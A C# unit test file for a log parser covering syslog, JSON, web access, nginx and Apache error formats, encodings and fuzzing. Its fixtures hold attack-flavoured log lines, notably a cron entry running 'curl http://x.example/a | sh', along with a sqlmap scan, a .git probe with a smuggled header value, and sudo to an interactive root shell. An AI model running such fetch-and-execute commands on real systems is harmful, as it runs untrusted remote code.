using System.Text;
using System.Text.Json;

namespace Hufu.Logs.Tests;

public class ParserTests
{
    private static readonly DateTimeOffset Reference = new(2026, 1, 5, 12, 0, 0, TimeSpan.Zero);
    private static readonly LogParseOptions Options = new() { ReferenceTime = Reference };

    private static LogEvent Read(string line, LogParseOptions? options = null) => LogParser.Parse(line, Reference, "test", options ?? Options);

    [Fact]
    public void Syslog5424_ReadsEveryPart()
    {
        var record = LogParser.ParseRecord("<165>1 2026-01-03T22:14:15.003Z web01.example app 812 ID47 [a@32473 k=\"v\\\"x\\]y\\\\z\" n=\"\\q\"][b] \uFEFF登入成功", Options);
        Assert.Empty(record.Problems);
        Assert.Equal((165, 20, 5, 1), (record.Priority, record.Facility, record.Severity, record.Version));
        Assert.Equal(("web01.example", "app", "812", "ID47"), (record.HostName, record.AppName, record.ProcId, record.MsgId));
        Assert.Equal("v\"x]y\\z", record.StructuredData!["a@32473"]["k"]);
        Assert.Equal("\\q", record.StructuredData["a@32473"]["n"]);
        Assert.Empty(record.StructuredData["b"]);
        Assert.Equal("登入成功", record.Message);
        Assert.Equal(new DateTimeOffset(2026, 1, 3, 22, 14, 15, 3, TimeSpan.Zero), record.Timestamp);
    }

    [Fact]
    public void Syslog5424_NilValuesAreAbsent()
    {
        var record = LogParser.ParseRecord("<0>1 - - - - - -", Options);
        Assert.Empty(record.Problems);
        Assert.Null(record.Timestamp);
        Assert.Null(record.HostName);
        Assert.Null(record.StructuredData);
        Assert.Null(record.Message);
    }

    [Theory]
    [InlineData("<192>1 - - - - - - x")]
    [InlineData("<013>1 - - - - - - x")]
    [InlineData("<13>1 2026-13-01T00:00:00Z - - - - - x")]
    [InlineData("<13>1 2026-01-01T00:00:60Z - - - - - x")]
    [InlineData("<13>1 2026-01-01T00:00:00.1234567Z - - - - - x")]
    [InlineData("<13>1 2026-01-01T00:00:00 - - - - - x")]
    [InlineData("<13>1 - - - - - [a b=\"c] x")]
    [InlineData("<13>1 - - - - - [a b=c] x")]
    [InlineData("<13>1 - - - - - x")]
    [InlineData("<13>1 - - -")]
    public void Syslog5424_FaultsAreProblemsAndTheLineIsKept(string line)
    {
        var read = Read(line, Options with { Format = LogFormats.Syslog5424 });
        Assert.NotEmpty(read.Problems);
        Assert.Equal(line, read.Raw);
    }

    [Theory]
    [InlineData("<34>Oct 11 22:14:15 mymachine su: 'su root' failed", "mymachine", "su", null, "'su root' failed", "2025-10-11T22:14:15Z")]
    [InlineData("Jan  5 12:00:01 web01 sshd[812]: hello", "web01", "sshd", "812", "hello", "2026-01-05T12:00:01Z")]
    [InlineData("Jan  7 12:00:01 web01 sshd[812]: hello", "web01", "sshd", "812", "hello", "2025-01-07T12:00:01Z")]
    [InlineData("Feb 29 01:02:03 h cron[1]: x", "h", "cron", "1", "x", "2024-02-29T01:02:03Z")]
    [InlineData("<13>Jan  4 01:02:03 sshd[812]: no host", null, "sshd", "812", "no host", "2026-01-04T01:02:03Z")]
    [InlineData("2026-01-04T09:02:03.123456+08:00 web01 sudo: x", "web01", "sudo", null, "x", "2026-01-04T01:02:03.123456Z")]
    [InlineData("Jun 14 15:16:01 combo sshd(pam_unix)[19939]: authentication failure; logname= rhost=218.188.2.4 ", "combo", "sshd(pam_unix)", "19939", "authentication failure; logname= rhost=218.188.2.4 ", "2025-06-14T15:16:01Z")]
    [InlineData("<187>Jan  3 2026 10:00:00: %LINK-3-UPDOWN: down", null, "%LINK-3-UPDOWN", null, "down", "2026-01-03T10:00:00Z")]
    public void Syslog3164_RealShapes(string line, string? host, string? app, string? proc, string message, string time)
    {
        var record = LogParser.ParseRecord(line, Options);
        Assert.Equal(LogFormats.Syslog3164, record.Format);
        Assert.Empty(record.Problems);
        Assert.Equal((host, app, proc, message), (record.HostName, record.AppName, record.ProcId, record.Message));
        Assert.Equal(DateTimeOffset.Parse(time), record.Timestamp);
    }

    [Fact]
    public void Syslog3164_RepeatedMessageHasItsCount()
    {
        var read = Read("Jan  4 01:02:03 web01 last message repeated 5 times");
        Assert.Equal("5", read.Fields["repeated"]);
        Assert.Equal("web01", read.Host);
        Assert.True(read.TimeZoneAssumed);
    }

    [Fact]
    public void AssumedOffsetApplies_OnlyWhereNoZoneIsNamed()
    {
        var taipei = Options with { AssumedOffset = TimeSpan.FromHours(8) };
        Assert.Equal(new DateTimeOffset(2026, 1, 4, 9, 0, 0, TimeSpan.FromHours(8)), Read("Jan  4 09:00:00 h a: x", taipei).OccurredAt);
        Assert.Equal(new DateTimeOffset(2026, 1, 4, 9, 0, 0, TimeSpan.Zero), Read("2026-01-04T09:00:00Z h a: x", taipei).OccurredAt);
    }

    [Fact]
    public void Json_NestedObjectsBecomeDottedNames_AndWindowsNamesAreKnown()
    {
        var read = Read("""{"winlog":{"event_id":4625,"channel":"Security","event_data":{"TargetUserName":"王小明"}},"@timestamp":"2026-01-04T01:02:03.5Z","host":{"name":"dc01"},"tags":["a","b"],"n":null,"message":"x"}""");
        Assert.Equal("4625", read.Fields["EventID"]);
        Assert.Equal("王小明", read.Fields["TargetUserName"]);
        Assert.Equal("a, b", read.Fields["tags"]);
        Assert.Equal(("dc01", "x"), (read.Host, read.Message));
        Assert.False(read.Fields.ContainsKey("n"));
        Assert.Contains(new LogSourceHint("windows", null, "security"), LogSourceHints.For(read));
    }

    [Fact]
    public void Access_CombinedLineGivesTheFieldsThatWebRulesUse()
    {
        var read = Read("203.0.113.7 - alice [04/Jan/2026:09:00:00 +0800] \"GET /a/../b?q=1 HTTP/1.1\" 404 153 \"-\" \"sqlmap/1.8\"");
        Assert.Equal(LogFormats.Access, read.Format);
        Assert.Equal(("203.0.113.7", "GET", "/a/../b", "q=1", "404", "sqlmap/1.8"),
            (read.SourceIp, read.Fields["cs-method"], read.Fields["cs-uri-stem"], read.Fields["cs-uri-query"], read.Fields["sc-status"], read.Fields["cs-user-agent"]));
        Assert.Equal(new DateTimeOffset(2026, 1, 4, 1, 0, 0, TimeSpan.Zero), read.OccurredAt);
    }

    [Theory]
    [InlineData("Jan  4 01:02:03 h sshd[1]: Failed password for invalid user ad min from 203.0.113.9 port 4242 ssh2", "user=ad min;src_ip=203.0.113.9;src_port=4242;outcome=failure;invalid_user=true")]
    [InlineData("Jan  4 01:02:03 h sshd[1]: Accepted publickey for root from 2001:db8::1 port 22 ssh2", "user=root;src_ip=2001:db8::1;method=publickey;outcome=success")]
    [InlineData("Jan  4 01:02:03 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -i", "user=alice;target_user=root;command=/bin/bash -i;outcome=success")]
    [InlineData("Jan  4 01:02:03 h sudo: bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh", "user=bob;outcome=failure;reason=3 incorrect password attempts")]
    [InlineData("Jan  4 01:02:03 h CRON[5]: (root) CMD (curl http://x.example/a | sh)", "user=root;command=curl http://x.example/a | sh")]
    [InlineData("Jan  4 01:02:03 h kernel: [12.5] DROP IN=eth0 OUT= SRC=198.51.100.4 DST=10.0.0.1 PROTO=TCP SPT=4000 DPT=22 SYN", "SRC=198.51.100.4;DPT=22;dst_port=22;prefix=DROP")]
    public void MessageBodies_GiveFields(string line, string expected)
    {
        var fields = Read(line).Fields;
        foreach (var pair in expected.Split(';'))
        {
            var name = pair[..pair.IndexOf('=')];
            Assert.True(fields.TryGetValue(name, out var value), $"{name} is missing");
            Assert.Equal(pair[(name.Length + 1)..], value);
        }
    }

    [Fact]
    public void BytesThatAreNotUtf8AreKept()
    {
        byte[] line = [.. "Jan  4 01:02:03 h a: "u8, 0xFF, 0xC3, (byte)'\n'];
        var read = LogParser.Parse(line, Reference, "test", Options);
        Assert.Equal(line[..^1], read.RawBytes!.Value.ToArray());
        Assert.Contains('\uFFFD', read.Raw);
        Assert.NotEmpty(read.Problems);
    }

    [Theory]
    [InlineData("<38>Jan  4 01:02:03 h sshd[9]: Failed password for 王小明 from 203.0.113.9 port 4711 ssh2", 950, true)]
    [InlineData("<13>Jan  4 01:02:03 h app: 使用者「許功蓋」登入失敗，帳號已鎖定", 950, true)]
    [InlineData("{\"user\":\"許功蓋\",\"message\":\"登入失敗\"}", 950, true)]
    [InlineData("<13>Jan  4 01:02:03 h app: déjà vu, l'été à Zürich, naïve façade", 1252, false)]
    [InlineData("<13>Jan  4 01:02:03 h app: Größe übermäßig, Straße", 1252, false)]
    [InlineData("<13>Jan  4 01:02:03 h app: Отказано в доступе пользователю", 1251, false)]
    [InlineData("<13>Jan  4 01:02:03 h app: 用户登录失败，请联系管理员", 936, false)]
    [InlineData("<13>Jan  4 01:02:03 h app: ログインに失敗しました", 932, false)]
    public void WhatOlderSystemsInTaiwanWriteIsRead_AndNothingElseIsTakenForIt(string line, int page, bool big5)
    {
        var bytes = CodePagesEncodingProvider.Instance.GetEncoding(page)!.GetBytes(line);
        var read = LogParser.Parse(bytes, Reference, "test", Options);
        Assert.Equal(bytes, read.RawBytes!.Value.ToArray());
        Assert.Equal((big5, big5 ? "Big5" : null, !big5), (read.Raw == line, read.Field("log.charset"), read.Problems.Contains(LogProblem.NotUtf8)));
        if (big5) Assert.Equal(LogParser.Parse(line, Reference, "test", Options).Fields.Append(new("log.charset", "Big5")).OrderBy(f => f.Key), read.Fields.OrderBy(f => f.Key));
        // In UTF-8 it is no question.
        Assert.Null(LogParser.Parse(Encoding.UTF8.GetBytes(line), Reference, "test", Options).Field("log.charset"));
    }

    [Fact]
    public void AnyBytesAreRead()
    {
        var random = new Random(11);
        for (var i = 0; i < 20_000; i++)
        {
            var bytes = new byte[random.Next(1, 40)];
            random.NextBytes(bytes);
            // Such as Big5 has, with what it has not between.
            if (i % 2 == 0) bytes = [.. bytes.Select((b, at) => at % 2 == 0 ? (byte)(0xA4 + b % 0x56) : (byte)(0x40 + b % 0xBF))];
            var line = bytes.AsSpan().TrimEnd("\r\n"u8);
            var read = LogParser.Parse(bytes, Reference, "test", Options);
            Assert.True(read.RawBytes is { } kept ? kept.Span.SequenceEqual(line) : Encoding.UTF8.GetBytes(read.Raw).AsSpan().SequenceEqual(line));
            Assert.Equal(read.RawBytes is not null, read.Problems.Contains(LogProblem.NotUtf8) || read.Field("log.charset") is not null);
        }
    }

    [Theory]
    [InlineData("<34>1 - h a - - - hi", """{"format":"rfc5424","valid":true,"problems":[],"priority":34,"facility":4,"severity":2,"version":1,"hostname":"h","appName":"a","message":"hi"}""")]
    [InlineData("just text", """{"format":"plain","valid":true,"problems":[],"message":"just text"}""")]
    public void Writer_LeavesOutWhatIsAbsent(string line, string expected)
    {
        using var stream = new MemoryStream();
        using (var json = new Utf8JsonWriter(stream)) LogParser.Write(LogParser.ParseRecord(line, Options), json);
        Assert.Equal(expected, Encoding.UTF8.GetString(stream.ToArray()));
    }

    [Theory]
    [InlineData("a\nb\r\n\nc", LogFraming.Auto, "a|b|c")]
    [InlineData("3 <1>5 <2>ab4 <3>x", LogFraming.Auto, "<1>|<2>ab|<3>x")]
    [InlineData("3 <1>\n4 <2>a", LogFraming.Octet, "<1>|<2>a")]
    [InlineData("3 <1>oops\nrest", LogFraming.Octet, "<1>|oops|rest")]
    [InlineData("0123456789abcdefghij\nz", LogFraming.Newline, "0123456789abcdef|ghij|z")]
    [InlineData("20 <1>456789abcdefghijz", LogFraming.Octet, "<1>456789abcdefg|hijz")]
    public async Task Framing_CutsTheStreamAndLosesNothing(string text, LogFraming framing, string expected)
    {
        foreach (var chunk in new[] { 1, 3, 4096 })
        {
            var records = new List<string>();
            using var reader = new RecordReader(new Dribble(Encoding.UTF8.GetBytes(text), chunk), framing, 16);
            while (await reader.ReadAsync(TestContext.Current.CancellationToken) is { } record) records.Add(Encoding.UTF8.GetString(record.Bytes.Span));
            Assert.Equal(expected, string.Join('|', records));
        }
    }

    [Fact]
    public void RandomlyChangedLinesNeverThrow()
    {
        string[] seeds =
        [
            "<165>1 2026-01-03T22:14:15.003Z web01.example app 812 ID47 [a@32473 k=\"v\\\"x\" n=\"q\"][b] text", "<34>Oct 11 22:14:15 mymachine su[12]: 'su root' failed",
            "2026-01-04 09:02:03,123 +0800 web01 sudo: x", """{"a":{"b":[1,"c"]},"@timestamp":"2026-01-04T01:02:03Z","EventID":4625}""",
            "203.0.113.7 - - [04/Jan/2026:09:00:00 +0800] \"GET / HTTP/1.1\" 404 153 \"-\" \"x\"", "Jan  4 01:02:03 h kernel: DROP IN=eth0 SRC=1.2.3.4 DST=10.0.0.1 DPT=22",
            "Jan  4 01:02:03 h sshd[1]: Failed password for invalid user x from 203.0.113.9 port 4242 ssh2",
            "<134>Jan  4 01:02:03 fw CEF:0|a\\|b|c|d|e|f|5|src=10.0.0.1 cs1Label=x y cs1=a\\=b msg=c d=e", "LEEF:2.0|a|b|c|d|0x5E|src=10.0.0.1^devTime=Jan 4 2026 01:02:03 UTC^msg=x y",
            "date=2026-01-04 time=01:02:03 devid=\"F\" logid=\"1\" type=\"traffic\" msg=\"a \\\"b\\\"\" x='y z'", "<Event xmlns='x'><System><EventID>1</EventID><Channel>Security</Channel></System><EventData><Data Name='a'>b &amp; c</Data></EventData></Event>",
            "#separator \\x09", "#fields\tts\tuid\tquery", "1767488523.1\tC1\tb\\xc3\\xbc", "#Fields: date time c-ip cs(User-Agent)", "2026-01-04 01:02:03 203.0.113.9 Mozilla/5.0+(X11)", "a,\"b \"\"c\"\"\",d",
            "type=EXECVE msg=audit(1767488523.123:456): argc=2 a0=\"sh\" a1=6563686F saddr=02000050CB0071090000000000000000 msg='op=x acct=\"y\"'", "<189>45: r1: *Jan  4 01:02:03.123 UTC: %SEC-6-IPACCESSLOGP: list 101 denied tcp 203.0.113.9(4242) -> 10.0.0.5(22), 1 packet",
            "Jan  4 01:02:03 h haproxy[1]: [2001:db8::9]:443 [04/Jan/2026:12:14:14.655] fe~ bck/srv -1/0 400 187 - - PR-- 1/1 0/0 {a} \"GET / HTTP/1.1\"", "1767488523.123    120 10.0.0.5 TCP_MISS/200 1234 GET http://x/ - HIER_DIRECT/198.51.100.7 text/html",
            "1,2026/01/04 01:02:03,0072,TRAFFIC,end,1,2026/01/04 01:02:03,10.0.0.5,198.51.100.7,,,\"a, b\",c", "2026-01-04 01:02:03.123 UTC [77] a@b FATAL:  password authentication failed for user \"x\"",
            "Jan  4 01:02:03 h sshd[1]: message repeated 2 times: [ Disconnected from user a b 203.0.113.9 port 22]", """{"CreationTime":"2026-01-04T01:02:03","Operation":"x","Workload":"y","RecordType":1,"Parameters":[{"Name":"a","Value":"b"},{"c":[1]}]}""",
        ];
        var random = new Random(20260104);
        var pieces = new[] { "<", ">", "[", "]", "\"", "\\", "{", "}", ":", " ", "-", "\0", "登", "9999999999", "=", "\uFEFF", "|", ",", "'", "\t", "#", "%", "(", ")", "&", "/", "\uD800", "\r" };
        string?[] formats = [null, .. LogFormats.All];
        string[] decoders = [.. LogFormats.Decoders];
        var streams = formats.Select(_ => new LogStream()).ToArray();
        for (var round = 0; round < 20_000; round++)
        {
            var line = new StringBuilder(seeds[round % seeds.Length]);
            for (var change = random.Next(1, 6); change > 0 && line.Length > 0; change--)
            {
                var at = random.Next(line.Length);
                switch (random.Next(3))
                {
                    case 0: line.Remove(at, Math.Min(random.Next(1, 9), line.Length - at)); break;
                    case 1: line.Insert(at, pieces[random.Next(pieces.Length)]); break;
                    default: line[at] = (char)random.Next(1, 0x250); break;
                }
            }

            var text = line.ToString();
            for (var i = 0; i < formats.Length; i++)
                Assert.Equal(text, LogParser.Parse(text, Reference, "test", Options with { Format = formats[i] }, streams[i]).Raw);
            Assert.Equal(text, Read(text, Options with { Format = decoders[round % decoders.Length] }).Raw);
            Assert.Equal(text, Read(text).Raw);
        }
    }

    private sealed class Dribble(byte[] bytes, int chunk) : MemoryStream(bytes)
    {
        public override ValueTask<int> ReadAsync(Memory<byte> buffer, CancellationToken cancellationToken = default) => base.ReadAsync(buffer[..Math.Min(chunk, buffer.Length)], cancellationToken);
    }

    [Fact]
    public void NginxErrorLog_TimeLevelAndNamedValuesAreRead()
    {
        var options = Options with { AssumedOffset = TimeSpan.FromHours(8) };
        var read = Read("2026/11/22 01:42:10 [error] 288#289: *4 access forbidden by rule, client: 203.0.113.45, server: web01.example, request: \"GET /.git/HEAD?x=, host: \\x22evil HTTP/1.1\", upstream: \"http://127.0.0.1:8081/x\", host: \"10.10.20.11\"", options);
        Assert.Empty(read.Problems);
        Assert.Equal((LogFormats.NginxError, "nginx", 3, "203.0.113.45", true), (read.Format, read.App, read.Severity, read.SourceIp, read.TimeZoneAssumed));
        Assert.Equal(new DateTimeOffset(2026, 11, 22, 1, 42, 10, TimeSpan.FromHours(8)), read.OccurredAt);
        Assert.Equal(("access forbidden by rule", "web01.example", "10.10.20.11", "http://127.0.0.1:8081/x", "4", "288"), (read.Message[..24], read.Field("server"), read.Field("cs-host"), read.Field("upstream"), read.Field("connection"), read.Field("procid")));
        Assert.Equal("GET /.git/HEAD?x=, host: \\x22evil HTTP/1.1", read.Field("request"));
    }

    [Fact]
    public void ApacheErrorLog_AllThatStandsInItsBracketsIsRead()
    {
        var read = Read("[Sun Nov 22 01:42:10.123456 2026] [authz_core:error] [pid 35708:tid 4328] (13)Permission denied: [client 203.0.113.45:4711] AH01630: client denied by server configuration: /srv/x, referer: http://a.example/", Options with { AssumedOffset = TimeSpan.FromHours(8) });
        Assert.Empty(read.Problems);
        Assert.Equal((LogFormats.ApacheError, "httpd", 3, "203.0.113.45", true), (read.Format, read.App, read.Severity, read.SourceIp, read.TimeZoneAssumed));
        Assert.Equal(new DateTimeOffset(2026, 11, 22, 1, 42, 10, TimeSpan.FromHours(8)).AddMicroseconds(123_456), read.OccurredAt);
        Assert.Equal("AH01630: client denied by server configuration: /srv/x, referer: http://a.example/", read.Message);
        FormatTests.Holds(read.Fields, "level=error¦module=authz_core¦thread=4328¦procid=35708¦status=(13)Permission denied¦c-ip=203.0.113.45¦c-port=4711¦code=AH01630¦cs-referer=http://a.example/");
    }

    [Theory]
    [InlineData("[Sun Dec 04 04:47:44 2005] [error] [client 203.0.113.9] File does not exist: /var/www/x", "level=error¦c-ip=203.0.113.9", "File does not exist: /var/www/x")]
    [InlineData("[Sun Dec 04 04:47:44 2005] [notice] workerEnv.init() ok /etc/httpd/conf/workers2.properties", "level=notice", "workerEnv.init() ok /etc/httpd/conf/workers2.properties")]
    [InlineData("[Sun Dec 04 04:47:44.5 2005] [:error] [pid 12] [client [2001:db8::7]:4711] ModSecurity: Warning", "level=error¦procid=12¦c-ip=2001:db8::7¦c-port=4711", "ModSecurity: Warning")]
    [InlineData("[Sun Dec 04 04:47:44.000001 2005] [ssl:info] [pid 12:tid 7] [client 2001:db8::7] AH01964: Connection", "c-ip=2001:db8::7¦code=AH01964", "AH01964: Connection")]
    [InlineData("[Sun Dec 04 04:47:44.000001 2005] [core:trace3] [pid 12:tid 7] x", "level=trace3", "x")]
    [InlineData("[Sun Dec 04 04:47:44.000001 2005] [core:crit]", "level=crit", "")]
    public void ApacheErrorLog_LinesOfAllVersionsAreRead(string line, string expected, string message)
    {
        var read = Read(line);
        Assert.Equal((LogFormats.ApacheError, message), (read.Format, read.Message));
        FormatTests.Holds(read.Fields, expected);
    }

    [Theory]
    [InlineData("[Sun Dec 44 04:47:44 2005] [error] x")]
    [InlineData("[Sun Dec 04 04:47:44 2005] [main] x")]
    [InlineData("[Sun Dec 04 04:47:44 2005] x")]
    [InlineData("[Sun Dec 04 04:47:44 2005")]
    [InlineData("[1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13]")]
    public void WhatIsNoApacheErrorLine_IsNoneOfIt(string line)
    {
        Assert.NotEqual(LogFormats.ApacheError, Read(line).Format);
        Assert.Equal((LogFormats.Plain, line), (Read(line, Options with { Format = LogFormats.ApacheError }).Format, Read(line, Options with { Format = LogFormats.ApacheError }).Message));
    }

    [Theory]
    [InlineData("2026/11/22 01:42:10 [notice] 1#1: signal process started", 5)]
    [InlineData("2026/11/22 01:42:10 [emerg] bind() to 0.0.0.0:80 failed", 0)]
    public void NginxErrorLog_LinesWithoutAConnectionAreRead(string line, int severity)
    {
        var read = Read(line);
        Assert.Equal((LogFormats.NginxError, severity), (read.Format, read.Severity));
    }

    [Theory]
    [InlineData("2026/13/22 01:42:10 [error] 1#1: x")]
    [InlineData("2026/11/22 01:42:10 [loud] 1#1: x")]
    [InlineData("2026/11/22 01:42:10 something else")]
    public void WhatIsNoNginxErrorLine_IsNoneOfIt(string line)
    {
        Assert.NotEqual(LogFormats.NginxError, Read(line).Format);
        Assert.Equal((LogFormats.Plain, line), (Read(line, Options with { Format = LogFormats.NginxError }).Format, Read(line, Options with { Format = LogFormats.NginxError }).Message));
    }
}
